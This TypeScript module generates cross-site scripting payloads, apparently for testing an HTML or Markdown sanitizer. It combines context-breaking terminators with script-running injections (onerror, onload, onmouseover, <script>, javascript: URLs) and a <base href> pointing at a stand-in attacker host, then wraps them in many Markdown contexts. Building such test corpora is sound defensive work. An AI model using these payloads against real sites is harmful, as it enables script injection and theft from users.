import { RUN } from './run.ts'

/** Out of the places in which a word may stand: text, attribute, script, style, comment, title, textarea. */
export function breaks(): string[] {
  const ends = [
    '"',
    "'",
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
    '-->',
    ']]>',
    '*/',
    '</noscript>',
    '</template>',
    '</select>',
    '</svg>',
    '\\";',
    '`',
    '?>',
    '%>',
  ]
  const runs = [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    ` onmouseover=${RUN} x="`,
    `;${RUN}//`,
    `<svg onload=${RUN}>`,
    `<base href=//evil.example>`,
  ]
  return ends.flatMap((end) => runs.map((run) => end + run))
}

export function markdown(): string[] {
  const inner = `<img src=x onerror=${RUN}>`
  const contexts: ((text: string) => string)[] = [
    (text) => `\`${text}\``,
    (text) => `\`\`\`\n${text}\n\`\`\``,
    (text) => `\`\`\`${text}\ncode\n\`\`\``,
    (text) => `    ${text}`,
    (text) => `> ${text}`,
    (text) => `# ${text}`,
    (text) => `- ${text}`,
    (text) => `| ${text} |\n| - |\n| ${text} |`,
    (text) => `*${text}*`,
    (text) => `[${text}](https://example.org)`,
    (text) => `[a](https://example.org "${text}")`,
    (text) => `[a](/b '"${text}')`,
    (text) => `![${text}](/a.png)`,
    (text) => `![a](/a.png "${text}")`,
    (text) => `![a](x"${text})`,
    (text) => `https://example.org/${text}`,
    (text) => `<https://example.org/${text}>`,
    (text) => `a@example.org${text}`,
    (text) => `[^1]: ${text}`,
    (text) => `\\${text}`,
    (text) => `~~${text}~~`,
    (text) => `@${text}`,
  ]
  const words = [
    inner,
    `" onmouseover="${RUN}`,
    `'onfocus='${RUN}' autofocus`,
    `<script>${RUN}</script>`,
    `javascript:${RUN}`,
  ]
  return contexts.flatMap((context) => words.map(context))
}
